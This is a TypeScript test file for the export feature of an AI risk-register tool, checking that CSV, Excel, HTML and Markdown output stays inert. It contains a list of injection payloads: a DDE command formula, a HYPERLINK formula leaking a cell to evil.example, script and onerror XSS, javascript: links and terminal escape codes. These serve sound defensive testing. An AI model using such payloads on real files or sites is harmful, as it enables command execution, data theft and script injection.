// What is given away is harmless wherever it is opened: in a spreadsheet, a browser, Markdown or a terminal.
import { deepEqual, equal, match, ok } from 'node:assert/strict';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import MarkdownIt from 'markdown-it';
import readExcelFile from 'read-excel-file/node';
import { writeWorkbook } from '../cli/spreadsheet/write-workbook';
import { guarded, unguarded } from '../engine/features/import/guarded-text';
import { findRows } from '../engine/features/import/kind-names';
import { csvText } from '../engine/reports/tables/csv-text';
import { htmlText } from '../engine/reports/tables/html-text';
import { markdownText } from '../engine/reports/tables/markdown-text';
import { registerTable } from '../engine/reports/tables/register-table';
import { DAY, runCommand } from './support/command-line';
import { textsBelow } from './support/folders';
import { workspaceOf } from './support/memory-workspace';
import { folderMaker } from './support/test-folder';

const EXAMPLE = 'examples/meridian';

/** Texts that a spreadsheet, a browser, Markdown or a terminal could take for more than words. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  ' =1+1',
  "'=1+1",
  "''+1",
  '\u003d\u202e1',
  '＝1+1',
  'a;=1+1',
  'a\n=1+1',
  'a"; =1+1',
  'a,"=1+1"',
  'a;"=1+1"',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/a.png)',
  '<javascript:alert(1)>',
  'a | b\n| c',
  '`code` **bold** # no heading',
  'ends with \\',
  '_x0041_ &amp; &lt;',
];

/** RFC 4180, read by the letter: this reader is no part of the product. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  for (const record of text.replace(/\r\n$/, '').split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
    const cells: string[] = [];
    const cell = /"((?:[^"]|"")*)"(,|$)/gy;
    for (let next = cell.exec(record); next; next = cell.exec(record)) {
      cells.push((next[1] ?? '').replace(/""/g, '"'));
      if (next[2] === '') break;
    }
    rows.push(cells);
  }
  return rows;
}

describe('aims export', () => {
  const folderOf = folderMaker();
  const meridian = workspaceOf(textsBelow(EXAMPLE)).snapshot;
  const risks = findRows('risks');
  ok(risks);
  const hostile = workspaceOf(
    new Map([
      [
        'risks.yaml',
        `kind: risk-register\nrisks:\n${HOSTILE.map((text, at) => `  - { id: R-${at}, title: ${JSON.stringify(text)}, owner: ${JSON.stringify(text)} }\n`).join('')}`,
      ],
    ]),
  ).snapshot;
  const hostileTable = registerTable(hostile, risks);
  const titles = hostile.view.rows('risk').map((row) => row.fields.get('title')?.text.trim());

  describe('CSV', () => {
    it('is RFC 4180 with a byte order mark, and comes back word for word', () => {
      const text = csvText(hostileTable);
      equal(text.charCodeAt(0), 0xfeff);
      const [head = [], ...rows] = readCsv(text.slice(1));
      ok(rows.every((row) => row.length === head.length));
      deepEqual(
        rows.map((row) => unguarded(row[head.indexOf('title')] ?? '').trim()),
        titles,
      );
    });

    it('no cell is a formula, whatever separates the cells', () => {
      const text = csvText(hostileTable).slice(1);
      // Where somebody opens it with other settings, quotes are no help, and each part becomes a cell.
      const parts = [';', '\t', '\n'].flatMap((separator) => text.split(separator));
      for (const cell of [...readCsv(text).flat(), ...parts.map((part) => part.replace(/^[\s"]+/, ''))])
        ok(!/^\s*(?:[=+@＝]|-(?!\s))/.test(cell), JSON.stringify(cell.slice(0, 60)));
    });

    it('the guard is exact for any text', () => {
      const letters = ["'", '=', '+', '-', '@', ';', '\n', '\t', ' ', 'a', '＝'];
      // Every text of up to four of these letters.
      const grow = (texts: readonly string[]) => texts.flatMap((text) => letters.map((letter) => text + letter));
      const one = grow(['']);
      const two = grow(one);
      const three = grow(two);
      for (const text of [...one, ...two, ...three, ...grow(three)]) {
        const safe = guarded(text);
        if (unguarded(safe) !== text) equal(unguarded(safe), text, JSON.stringify(text));
        if (/^\s*[=+\-@＝]/.test(safe)) equal(safe, 'no formula', JSON.stringify(text));
      }
    });
  });

  describe('a workbook, by another program', () => {
    it('has text as text and days as days', async () => {
      const folder = folderOf();
      const file = join(folder.path, 'risks.xlsx');
      const { status, stdout, stderr } = runCommand(['export', 'register', 'risks', EXAMPLE, '-o', file, ...DAY]);
      deepEqual([status, stdout], [0, ''], stderr);
      const [sheet, about] = await readExcelFile(file);
      equal(sheet?.sheet, 'AI risk register');
      const [head = [], ...rows] = sheet?.data ?? [];
      const table = registerTable(meridian, risks);
      deepEqual(
        head,
        table.columns.map((column) => column.head),
      );
      equal(rows.length, table.rows.length);
      const read = rows.map((row) =>
        table.columns.map((_, column) => {
          const value = row[column] ?? '';
          return value instanceof Date
            ? { text: value.toISOString().slice(0, 10), date: true }
            : { text: String(value), date: false };
        }),
      );
      deepEqual(read, table.rows);
      ok(read.some((row) => row.some((cell) => cell.date)));
      match(String(about?.data.at(-1)?.[0]), /not a statement of conformity/);
    });

    it('holds no formula, no link, no macro, and is set up for reading and printing', async () => {
      const bytes = await writeWorkbook(hostileTable);
      deepEqual(await writeWorkbook(hostileTable), bytes);
      const parts = Object.entries(unzipSync(bytes)).map(
        ([path, part]) => [path, new TextDecoder().decode(part)] as const,
      );
      const sheet = parts.find(([path]) => /worksheets\/sheet1\.xml$/.test(path))?.[1] ?? '';
      for (const [path, text] of parts)
        ok(!/<f[ >]|<hyperlink|vbaProject|externalLink|TargetMode="External"/.test(text), path);
      for (const wanted of [
        '<pane ',
        'state="frozen"',
        '<autoFilter ',
        'orientation="landscape"',
        'fitToHeight="0"',
        '<cols>',
      ])
        ok(sheet.includes(wanted), wanted);
      // Without the quotes Excel finds the file damaged.
      const book = parts.find(([path]) => path === 'xl/workbook.xml')?.[1] ?? '';
      match(
        book,
        /<definedName name="_xlnm\.Print_Titles" localSheetId="0">('|&apos;)AI risk register\1!\$A:\$A,\1AI risk register\1!\$1:\$1<\/definedName>/,
      );
      const [first] = await readExcelFile(Buffer.from(bytes));
      const column = hostileTable.columns.findIndex(({ head }) => head === 'title');
      deepEqual(
        first?.data.slice(1).map((row) => String(row[column]).trim()),
        titles,
      );
    });

    it('a cell that is too long is said and not cut', async () => {
      const long = {
        ...hostileTable,
        rows: [hostileTable.rows[0]?.map(() => ({ text: 'x'.repeat(32_768), date: false })) ?? []],
      };
      let said = '';
      await writeWorkbook(long).catch((error: unknown) => {
        said = String(error);
      });
      match(said, /32768\. Use csv/);
    });
  });

  it('HTML: every text is text', () => {
    const page = htmlText(hostileTable);
    const tags = new Set([...page.matchAll(/<\/?([a-z!][a-z0-9]*)[^>]*>/gi)].map(([, tag]) => tag?.toLowerCase()));
    const known = '!doctype html head meta title style body h1 table thead tr th tbody td p'.split(' ');
    deepEqual(
      [...tags].filter((tag) => !known.includes(tag ?? '')),
      [],
    );
    deepEqual(
      [...page.matchAll(/<[a-z]+ [^>]*?\b(href|src|on[a-z]+|action)\s*=/gi)].map(([tag]) => tag),
      [],
    );
    match(page, /default-src 'none'/);
    const cells = [...page.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map(([, text = '']) =>
      text
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&#39;/g, "'")
        .replace(/&amp;/g, '&')
        .trim(),
    );
    for (const title of titles) ok(cells.includes(title ?? ''), title);
    match(page, /not a statement of conformity/);
  });

  it('Markdown: shown by another program, every text is text in its own cell', () => {
    const page = new MarkdownIt({ html: true, linkify: false }).render(markdownText(hostileTable));
    const inside = page.replace(/<br>/g, '\n');
    deepEqual(
      [...inside.matchAll(/<(?!\/?(?:h1|table|thead|tbody|tr|th|td|p)>)[^>]*>/g)].map(([tag]) => tag),
      [],
    );
    equal(inside.match(/<tr>/g)?.length, hostileTable.rows.length + 1);
    const cells = [...inside.matchAll(/<td>([\s\S]*?)<\/td>/g)].map(([, text = '']) =>
      text
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&')
        .trim(),
    );
    for (const title of titles) ok(cells.includes(title ?? ''), JSON.stringify(title));
  });

  it('nothing steers a terminal', () => {
    const { snapshot } = workspaceOf(
      new Map([
        [
          'risks.yaml',
          'kind: risk-register\nversion: "1\\e[2J"\nrisks:\n  - { id: R-1, title: "a\\e[31mred\\x07\\u009b2J", owner: "\\0" }\n',
        ],
      ]),
    );
    const table = registerTable(snapshot, risks);
    for (const text of [csvText(table), htmlText(table), markdownText(table), table.notes.join('\n')])
      ok(!/(?![\t\r\n])\p{Cc}/u.test(text));
    ok(csvText(table).includes('a\ufffd[31mred'));
  });
});
